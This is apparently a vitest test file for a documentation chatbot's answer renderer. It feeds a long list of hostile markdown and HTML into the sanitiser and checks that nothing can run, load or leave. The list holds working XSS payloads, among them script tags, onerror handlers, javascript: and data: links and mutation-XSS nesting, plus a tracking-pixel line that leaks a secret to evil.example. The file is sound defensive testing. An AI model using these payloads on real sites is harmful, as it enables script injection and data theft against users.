import { describe, expect, test } from 'vitest';
import { AnswerBlocks } from '../src/markdown/answer-blocks';
import { sanitiseAnswer } from '../src/markdown/sanitise';
import { sourceItem } from '../src/view/source-item';
import { source } from './support';

const base = 'https://bot.example/';
const allowed = new Set([
  'DIV', 'P', 'BR', 'HR', 'H4', 'H5', 'H6', 'STRONG', 'EM', 'DEL', 'CODE', 'PRE', 'BLOCKQUOTE', 'UL', 'OL', 'LI', 'TABLE', 'THEAD', 'TBODY', 'TR',
  'TH', 'TD', 'A', 'SPAN', 'FIGURE', 'FIGCAPTION', 'BUTTON', 'svg', 'path',
]);

const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><use href="data:image/svg+xml,x"/></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<style>*{display:none}</style><link rel=stylesheet href=//evil.example>',
  '<form action=//evil.example><input name=q><button>send</button></form>',
  '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<docs-bot server="//evil.example"></docs-bot>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example "onmouseover=alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.png?q=secret)',
  '![x](https://evil.example/"onerror="alert(1))',
  '```"><script>alert(1)</script>\ncode\n```',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <b onclick=alert(1)>x</b> |',
  '[1]: javascript:alert(1)\n\n[1] and [x][1]',
  '- <script>alert(1)</script>\n  - <img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!--><img src=x onerror=alert(1)>-->',
  '<span data-citation="1" class="launcher" style="position:fixed">x</span>',
  '\u0000<img src=x onerror=alert(1)>',
];

/** What in an element could run, load or leave. */
function dangersIn(element: Element): readonly string[] {
  const dangers: string[] = [];
  for (const node of element.querySelectorAll('*')) {
    if (!allowed.has(node.tagName)) dangers.push(`<${node.tagName}>`);
    for (const { name, value } of node.attributes) {
      if (name.startsWith('on') || name === 'style' || name === 'src' || name === 'srcdoc') dangers.push(`${name}=${value}`);
      if (name === 'href' && !/^https?:/.test(value)) dangers.push(`${name}=${value}`);
    }
  }
  return dangers;
}

describe('hostile answers', () => {
  test.each(attacks)('%j does nothing', (attack) => {
    const blocks = new AnswerBlocks();
    blocks.update(attack, true, { sources: [source(1)], base });
    expect(dangersIn(blocks.element)).toEqual([]);
  });

  test.each(attacks)('%j does nothing while it arrives', (attack) => {
    const blocks = new AnswerBlocks();
    for (let end = 5; end <= attack.length; end += 5) {
      blocks.update(attack.slice(0, end), false, { sources: [source(1)], base });
      expect(dangersIn(blocks.element)).toEqual([]);
    }
  });

  test.each(attacks)('%j does nothing even where the parser let HTML through', (attack) => {
    const holder = document.createElement('div');
    holder.append(sanitiseAnswer(attack));
    for (const link of holder.querySelectorAll('a')) expect(link.getAttribute('href') ?? '').not.toMatch(/^\s*(?:javascript|data|vbscript|file):/i);
    expect(holder.querySelectorAll('script, img, iframe, style, form, svg, math, docs-bot, [onclick], [onload], [onerror], [style]')).toHaveLength(0);
  });

  test.each(['Use <b>bold</b>.', '<div>A block</div>', '<!-- a comment -->'])('the HTML %j is shown as the text it is', (html) => {
    const blocks = new AnswerBlocks();
    blocks.update(html, true, { sources: [], base });
    expect(blocks.element.textContent.trim()).toBe(html);
  });
});

describe('hostile sources', () => {
  test.each(['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', 'http://'])('the address %j is not opened', (url) => {
    const item = sourceItem(source(1, { url, title: '<img src=x onerror=alert(1)>' }), { base }, { number: true, snippet: true });
    expect(item.querySelector('a')).toBeNull();
    expect(dangersIn(item)).toEqual([]);
    expect(item.textContent).toContain('<img src=x onerror=alert(1)>');
  });
});

describe('what the service took its meaning', () => {
  test.each([
    ['Give \\<name> and \\<b>bold\\</b>.', 'Give <name> and <b>bold</b>.'],
    ['Open https\\://evil.example/a?b=c or www\\.evil.example now.', 'Open https://evil.example/a?b=c or www.evil.example now.'],
    ['[evil]\\: https\\://evil.example', '[evil]: https://evil.example'],
    ['A call f[0]\\(a b) stays.', 'A call f[0](a b) stays.'],
  ])('%j is text that reads as before, without a link', (markdown, text) => {
    const blocks = new AnswerBlocks();
    blocks.update(markdown, true, { sources: [], base });
    expect(blocks.element.querySelector('a')).toBeNull();
    expect(blocks.element.textContent.trim()).toBe(text);
  });
});
